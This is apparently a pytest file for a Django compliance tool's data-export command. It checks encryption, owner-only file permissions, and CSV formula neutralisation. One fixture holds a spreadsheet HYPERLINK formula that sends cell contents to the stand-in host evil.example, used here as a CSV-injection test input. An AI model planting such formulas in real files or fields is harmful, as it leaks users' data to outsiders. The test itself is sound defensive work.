"""An export leaves no readable copy lying around, and its CSVs run nothing."""

import csv
import io
import stat
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command

from compliance.dsar import package as packages
from compliance.dsar.models import ExportPackage
from provisioning.services import persons

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.fixture
def person(actor):
    return persons.person_create(
        actor=actor,
        fields={"user_name": "rowan.vale", "given_name": "Rowan", "title": FORMULA},
        emails=[persons.Contact("rowan.vale@example.org", primary=True)],
    )


def run(*args):
    out = io.StringIO()
    call_command("dsar", *args, stdout=out)
    return out.getvalue().strip().splitlines()[-1]


def test_without_output_the_command_prints_the_encrypted_package_under_media_root(
    person, settings, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)

    last = Path(run("export", person.user_name))

    assert last == packages.package_path(ExportPackage.objects.get()).resolve()
    assert last.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    assert not zipfile.is_zipfile(last)  # sealed, not a readable ZIP
    assert list(tmp_path.glob("*.zip")) == []


def test_with_output_the_readable_copy_is_for_its_owner_only(person, tmp_path):
    last = Path(run("export", person.user_name, "--output", str(tmp_path / "out")))

    assert stat.S_IMODE(last.stat().st_mode) == 0o600
    assert zipfile.is_zipfile(last)


def test_a_formula_typed_into_a_title_is_neutralised_in_the_csv(person, tmp_path):
    archive = zipfile.ZipFile(run("export", person.user_name, "--output", str(tmp_path)))

    rows = list(csv.DictReader(io.StringIO(archive.read("csv/employment.csv").decode())))
    titles = [row["title"] for row in rows if row.get("title")]
    assert titles == ["'" + FORMULA]
